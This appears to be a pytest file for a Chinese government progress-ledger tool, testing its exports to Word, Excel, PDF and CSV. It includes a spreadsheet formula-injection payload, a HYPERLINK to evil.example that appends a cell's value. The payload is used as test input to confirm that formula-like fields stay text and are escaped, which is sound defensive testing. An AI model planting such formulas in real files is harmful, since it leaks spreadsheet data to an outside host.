"""Official tables from the ledger, checked as an office reads them: on the printed page.

A seed is imported from its real file (so the store keeps how the source printed
its title and columns), a unit reports, and the round is exported to Word, Excel and
PDF. Each file is rendered to page images (LibreOffice, pdftoppm) and measured.
"""
from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date

import docx
import openpyxl
import pdfplumber
import pytest
from export_seeds import seed_path
from factories.store import import_gold
from pages import empty_share, page_images, to_pdf
from typer.testing import CliRunner

from duban.cli import app
from duban.parse import parse_file
from duban.store.db import session_scope
from duban.store.models import Plan, Task
from duban.store.services.progress import append_report
from duban.store.services.rounds import create_round

runner = CliRunner()
FULL_NAME, OFFICE = "北京市东城区人民政府", "北京市东城区人民政府督查室"
HOSTILE = '=HYPERLINK("http://evil.example/?"&B5,"详见附件")'


def run(*args: str):
    return runner.invoke(app, list(args))


def squeeze(text: str | None) -> str:
    return "".join((text or "").split())


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    """Seeds 000 and 002 imported from their files; the organization's names set; 000's first task's
    report confirmed as 达进度 and a hostile progress item on its second task."""
    folder = tmp_path_factory.mktemp("tables")
    url = f"sqlite:///{folder / 'duban.sqlite3'}"
    with session_scope(url) as session:
        for prefix in ("000", "002"):
            import_gold(session=session, prefix=prefix, doc=parse_file(seed_path(prefix)), org_name="东城区政府")
    os.environ["DUBAN_DATABASE_URL"] = url
    try:
        assert run("org", "set", "--full-name", FULL_NAME, "--office", OFFICE).exit_code == 0
        with session_scope(url) as session:
            plan = session.query(Plan).filter(Plan.year == 2023).one()
            tasks = session.query(Task).filter(Task.plan_id == plan.id).order_by(Task.position).all()
            rnd = plan.rounds[0]
            append_report(session=session, actor="test", task_id=tasks[1].id, round_id=rnd.id,
                          unit_id=tasks[1].assignments[0].unit_id, items=[HOSTILE, "@SUM(1+1)"], status="on_track",
                          state="approved", check_transition=False)
            plan_id, round_id = plan.id, rnd.id
        yield url, plan_id, round_id, folder
    finally:
        os.environ.pop("DUBAN_DATABASE_URL", None)


@pytest.fixture(scope="module")
def exported(ledger):
    url, plan_id, round_id, folder = ledger
    os.environ["DUBAN_DATABASE_URL"] = url
    paths = {}
    for fmt in ("docx", "xlsx", "pdf", "csv"):
        path = folder / f"table.{fmt}"
        result = run("export", "--plan", str(plan_id), "--round", str(round_id), "-o", str(path), "--now", "2023-10-20")
        assert result.exit_code == 0, result.output
        paths[fmt] = path
    return paths


SOURCE_TITLES = ["2023年市政府工作报告重点任务清单", "东城区主责项目前三季度进展情况表"]
SOURCE_HEADERS = ["序号", "项目内容", "主责单位", "进展情况", "状态"]


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "pdf"])
def test_no_page_is_more_than_a_third_empty_except_the_last(exported, fmt):
    pdf = to_pdf(exported[fmt])
    images = page_images(pdf)
    margins = (1.8 / 21, 1.8 / 21) if fmt == "xlsx" else (2.5 / 21, 2.3 / 21)
    shares = [empty_share(image, *margins) for image in images]
    assert len(images) >= 5
    assert all(share < 1 / 3 for share in shares[:-1]), [round(s, 2) for s in shares]


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "pdf"])
def test_printed_page_has_the_sources_title_date_line_and_columns(exported, fmt):
    with pdfplumber.open(to_pdf(exported[fmt])) as pdf:
        first = pdf.pages[0]
        text = squeeze(first.extract_text())
        header = [squeeze(c) for c in first.extract_tables()[0][0]]
        later = [[squeeze(c) for c in page.extract_tables()[0][0]] for page in pdf.pages[1:]]
        body = "".join(squeeze(page.extract_text()) for page in pdf.pages)
    assert text.startswith("".join(SOURCE_TITLES))
    assert "截至2023年9月30日" in text and "填报日期：2023年10月20日" in text
    assert header == SOURCE_HEADERS
    assert all(h == SOURCE_HEADERS for h in later), "header row on every page"
    assert "（续）" in body, "a task continued on the next page carries its label"
    assert "达进度" in body


def test_a_source_with_other_column_names_keeps_them(ledger, tmp_path):
    url, *_ = ledger
    os.environ["DUBAN_DATABASE_URL"] = url
    out = tmp_path / "2021.docx"
    assert run("export", "--plan", "2021", "--round", "1-6月", "-o", str(out)).exit_code == 0
    table = docx.Document(str(out)).tables[0]
    assert [c.text for c in table.rows[0].cells] == ["序号", "工作内容", "责任单位", "进展情况", "状态"]


def test_suggested_statuses_are_not_printed(exported):
    """No report was confirmed except task 2's (达进度): every other task prints 未评估 or 未报送."""
    rows = list(csv.reader(io.StringIO(exported["csv"].read_text("utf-8-sig"))))
    statuses = [row[-1] for row in rows[1:]]
    assert statuses[1] == "达进度"
    assert set(statuses[:1] + statuses[2:]) <= {"未评估", "未报送"}
    # the Word and Excel tables print the same confirmed statuses (a task cut over a page repeats its status)
    document = docx.Document(str(exported["docx"]))
    word = [row.cells[-1].text for table in document.tables for row in table.rows if row.cells[-1].text != "状态"]
    sheet = openpyxl.load_workbook(exported["xlsx"]).active
    excel = [row[-1].value for row in sheet.iter_rows() if isinstance(row[0].value, int)]
    for printed in (word, excel):
        assert set(printed) == set(statuses) and len(printed) >= len(statuses)


def test_formula_like_cells_stay_text(exported):
    book = openpyxl.load_workbook(exported["xlsx"])
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    assert HOSTILE in cells[0].value, "the text itself is kept as typed"
    seq = [c.value for c in book.active["A"] if isinstance(c.value, int)]
    assert seq[:3] == [1, 2, 3], "序号 stored as numbers"
    rows = list(csv.reader(io.StringIO(exported["csv"].read_text("utf-8-sig"))))
    progress = rows[2][3]
    assert progress.startswith("1.=HYPERLINK")  # numbered items: the field itself starts with a digit
    fields = [field for row in rows for field in row]
    assert not any(field[:1] in "=+-@\t\r" and field for field in fields)


def test_a_field_starting_like_a_formula_is_prefixed_in_csv():
    from duban.export.escape import csv_row

    assert csv_row([HOSTILE, "+1", "-2", "@x", "\tx", "\rx", "正常", 3, None]) == \
        ["'" + HOSTILE, "'+1", "'-2", "'@x", "'\tx", "'\rx", "正常", 3, None]


def test_files_are_readable_by_others_and_carry_the_organization(exported):
    for path in exported.values():
        assert stat.S_IMODE(path.stat().st_mode) & 0o044 == 0o044, path
    props = docx.Document(str(exported["docx"])).core_properties
    assert props.author == FULL_NAME and props.title == SOURCE_TITLES[0]
    assert props.created.date() == date(2023, 10, 20) and props.modified.date() == date(2023, 10, 20)
    book = openpyxl.load_workbook(exported["xlsx"])
    assert book.properties.creator == FULL_NAME and book.properties.created.date() == date(2023, 10, 20)
    with pdfplumber.open(exported["pdf"]) as pdf:
        assert pdf.metadata.get("Author") == FULL_NAME and pdf.metadata.get("Title") == SOURCE_TITLES[0]


def test_export_without_round_refuses_a_round_nobody_reported_in(ledger, tmp_path):
    url, plan_id, _, _ = ledger
    os.environ["DUBAN_DATABASE_URL"] = url
    with session_scope(url) as session:
        rnd = create_round(session=session, actor="test", plan_id=plan_id, label="全年", start=date(2023, 1, 1),
                           end=date(2023, 12, 31), due=date(2024, 1, 10))
        round_id = rnd.id
    out = tmp_path / "t.docx"
    result = run("export", "--plan", str(plan_id), "-o", str(out))
    assert result.exit_code == 1 and not out.exists()
    assert "还没有单位报送" in result.output and f"--round {round_id}" in result.output
    assert run("export", "--plan", str(plan_id), "--round", str(round_id), "-o", str(out)).exit_code == 0
    with pdfplumber.open(to_pdf(out)) as pdf:
        assert "东城区主责项目全年进展情况表" in squeeze(pdf.pages[0].extract_text())


def test_org_settings_are_shown_and_refused_when_bad(ledger):
    url, *_ = ledger
    os.environ["DUBAN_DATABASE_URL"] = url
    shown = run("org", "show")
    assert shown.exit_code == 0 and FULL_NAME in shown.output and OFFICE in shown.output
    assert run("org", "set").exit_code == 1
    bad = run("org", "set", "--office", "督" * 300)
    assert bad.exit_code == 1 and "过长" in bad.output
    assert OFFICE in run("org", "show").output
